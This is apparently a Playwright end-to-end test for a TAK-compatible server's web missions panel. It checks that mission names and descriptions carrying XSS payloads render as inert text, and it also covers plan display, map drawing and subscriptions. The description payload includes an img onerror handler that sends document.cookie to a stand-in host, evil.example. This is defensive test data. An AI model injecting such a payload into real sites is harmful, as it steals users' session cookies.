"""The missions panel in a real Chromium against a real server.

A mission made by a TAK client through Marti with script payloads in its name and description shows as
text (no script runs, no request leaves the origin); a mission with a plan shows its objectives, areas,
routes and phases, draws the plan on the map from its GeoJSON export, and is subscribed and unsubscribed.
"""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from urllib.parse import quote

import httpx
import pytest
from playwright.sync_api import Browser, expect

from tests.support.server import ServerProcess
from tests.support.web_panels import XSS_SCRIPT, base_url, logged_in, open_panel, password_of, serve_with_accounts, shot

ACCOUNTS = {"rae": ("member",)}  # no groups: __ANON__, where the anonymous TAK client makes its mission
# A mission name cannot hold "/" (Marti paths), so the name's payload has none.
HOSTILE_NAME = '<img src=x onerror="window.__xss=1">'
HOSTILE_DESCRIPTION = XSS_SCRIPT + '<img src=x onerror="fetch(`http://evil.example/`+document.cookie)">'
T0 = 1_900_000_000_000
PLAN = {
    "objectives": [{"id": "bridge", "name": "Take the bridge", "point": {"lat": 39.1, "lon": -120.0}, "priority": 1}],
    "areas": [{"id": "sector-a", "name": "Sector A", "vertices": [
        {"lat": 39.08, "lon": -120.05}, {"lat": 39.08, "lon": -120.02}, {"lat": 39.11, "lon": -120.02}]}],
    "routes": [{"id": "ingress", "name": "Ingress", "waypoints": [
        {"lat": 39.06, "lon": -120.08, "name": "SP"}, {"lat": 39.09, "lon": -120.01, "name": "RP"}]}],
    "phases": [{"id": "move", "name": "Move", "start_ms": T0, "end_ms": T0 + 3_600_000},
               {"id": "hold", "name": "Hold", "start_ms": T0 + 3_600_000, "end_ms": T0 + 7_200_000,
                "depends_on": ["move"]}],
}


@pytest.fixture
def server(data_dir: Path) -> Iterator[ServerProcess]:
    yield from serve_with_accounts(data_dir, ACCOUNTS)


def _make_missions(server: ServerProcess) -> None:
    with httpx.Client(base_url=base_url(server.ports), timeout=30) as http:
        # A TAK client (anonymous, plain HTTP) creates its mission through Marti.
        made = http.put(f"/Marti/api/missions/{quote(HOSTILE_NAME, safe='')}",
                        params={"creatorUid": "ANDROID-x", "description": HOSTILE_DESCRIPTION})
        assert made.status_code in (200, 201), made.text
        token = http.post("/api/auth/token", auth=("rae", password_of("rae"))).json()["access_token"]
        http.headers["Authorization"] = f"Bearer {token}"
        assert http.post("/api/missions", json={"name": "Op Dawn", "description": "cross at dawn"}).status_code == 201
        planned = http.put("/api/missions/Op%20Dawn/plan", json={"reason": "first draft", "plan": PLAN})
        assert planned.status_code == 200, planned.text


def test_missions_show_inert_names_their_plan_and_draw_it(server: ServerProcess, webgl_browser: Browser) -> None:
    _make_missions(server)
    outside: list[str] = []
    with logged_in(webgl_browser, server.ports, "rae", outside=outside) as page:
        page.evaluate("""() => document.addEventListener('securitypolicyviolation',
                                 (e) => (window.__violations ||= []).push(e.violatedDirective))""")
        open_panel(page, "missions")
        panel = page.locator("#panel-missions")
        hostile = panel.locator("li.mission").filter(has=page.get_by_role("button", name=HOSTILE_NAME, exact=True))
        expect(hostile).to_have_count(1)
        expect(hostile.locator(".mission-description")).to_have_text(HOSTILE_DESCRIPTION)
        hostile.get_by_role("button").click()
        expect(panel.locator(".mission-detail h3")).to_have_text(HOSTILE_NAME)
        expect(panel.locator(".mission-detail dd").nth(1)).to_have_text(HOSTILE_DESCRIPTION)
        expect(panel.locator(".mission-detail dd").nth(2)).to_have_text("ANDROID-x")

        # The planned mission: its plan item by item, phases on their times.
        panel.get_by_role("button", name="Op Dawn").click()
        plan = panel.locator(".mission-plan")
        expect(plan.locator("h4")).to_have_text("Plan v1 by rae")
        expect(plan).to_contain_text("Take the bridge (priority 1)")
        expect(plan).to_contain_text("Sector A (3 vertices)")
        expect(plan).to_contain_text("Ingress (2 waypoints, Walking)")
        expect(plan).to_contain_text("Move: 2030-03-17 17:46:40Z \u2013 2030-03-17 18:46:40Z")
        expect(plan).to_contain_text("Hold: 2030-03-17 18:46:40Z \u2013 2030-03-17 19:46:40Z after move")

        panel.get_by_role("button", name="Show on map").click()
        page.wait_for_function("""() => {
            const m = rallypoint.view.map;
            const kinds = m.querySourceFeatures('missions-plan').map((f) => f.properties.kind);
            return ['areas', 'routes', 'objectives'].every((k) => kinds.includes(k))
                   && ['missions-areas', 'missions-routes', 'missions-points'].every((id) => m.getLayer(id));
        }""")
        expect(panel.get_by_role("button", name="Hide from map")).to_have_count(1)

        # The creator's API device was subscribed when the mission was made; the page unsubscribes and
        # subscribes it again.
        subscribers = """async () => (await (await fetch('/api/missions/Op%20Dawn/subscriptions')).json())
                                     .map((s) => s.uid)"""
        assert "rallypoint-api-rae" in page.evaluate(subscribers)
        panel.get_by_role("button", name="Unsubscribe", exact=True).click()
        expect(panel.get_by_role("button", name="Subscribe", exact=True)).to_have_count(1)
        assert "rallypoint-api-rae" not in page.evaluate(subscribers)
        panel.get_by_role("button", name="Subscribe", exact=True).click()
        expect(panel.get_by_role("button", name="Unsubscribe", exact=True)).to_have_count(1)
        assert "rallypoint-api-rae" in page.evaluate(subscribers)
        page.wait_for_function("() => !rallypoint.view.map.isMoving() && rallypoint.view.map.loaded()")
        shot(page, "missions")

        # A map item added to the mission elsewhere shows in the open detail at the next reading.
        added = page.evaluate("""async () => (await fetch('/api/missions/Op%20Dawn/contents', { method: 'POST',
            headers: { 'X-Requested-With': 'rallypoint-web', 'Content-Type': 'application/json' },
            body: JSON.stringify({ uids: ['marker-1'] }) })).status""")
        assert added == 200
        expect(panel.locator(".mission-contents")).to_have_text("item: marker-1")

        assert page.evaluate("() => window.__xss ?? null") is None
        assert page.evaluate("() => window.__violations ?? []") == []
        assert panel.locator("img, script").count() == 0
    assert outside == []
